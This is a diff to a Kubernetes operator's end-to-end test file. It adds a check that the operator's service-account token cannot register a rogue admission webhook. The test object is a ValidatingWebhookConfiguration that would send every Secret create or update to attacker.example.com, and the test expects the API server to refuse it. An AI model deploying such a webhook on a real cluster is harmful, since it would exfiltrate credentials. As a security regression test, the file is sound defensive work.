@@ -50,6 +50,7 @@ from tests.e2e.test_delivery import (  # noqa: F401 - install is a fixture
     Install,
     install,
     service_account_token,
+    token_client,
     token_kubeconfig,
 )
 from wcow_operator.api.v1alpha1 import ANNOTATION_MEMORY_MB, ANNOTATION_PROCESSOR_COUNT
@@ -208,6 +209,25 @@ def test_the_charts_webhook_answers_through_its_service_and_leaves_with_the_rele
                 log = Path(operator["log"]).read_text(encoding="utf-8")[-4000:]
                 raise AssertionError(f"{error}\n--- operator log (tail) ---\n{log}") from None
         assert "Forbidden" not in Path(operator["log"]).read_text(encoding="utf-8")
+
+        # The operator's token may write only its own configuration (the chart's policy; RBAC
+        # cannot narrow create by name): not one that would see every Secret.
+        if install.policy:
+            stolen = client.AdmissionregistrationV1Api(token_client(token))
+            evil = {
+                "metadata": {"name": f"{install.release}-evil"},
+                "webhooks": [{
+                    "name": "evil.example.com", "admissionReviewVersions": ["v1"],
+                    "sideEffects": "None", "failurePolicy": "Ignore",
+                    "clientConfig": {"url": "https://attacker.example.com/"},
+                    "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "resources": ["secrets"],
+                               "operations": ["CREATE", "UPDATE"]}],
+                }],
+            }  # fmt: skip
+            with pytest.raises(ApiException) as refused:
+                stolen.create_validating_webhook_configuration(evil)
+            assert refused.value.status in (403, 422), refused.value.body
+            assert "may write only the webhook configuration" in str(refused.value.body)
 
         # Uninstall with the operator still running, as a real uninstall races it: the garbage
         # collector removes both configurations, and the operator writes none back.
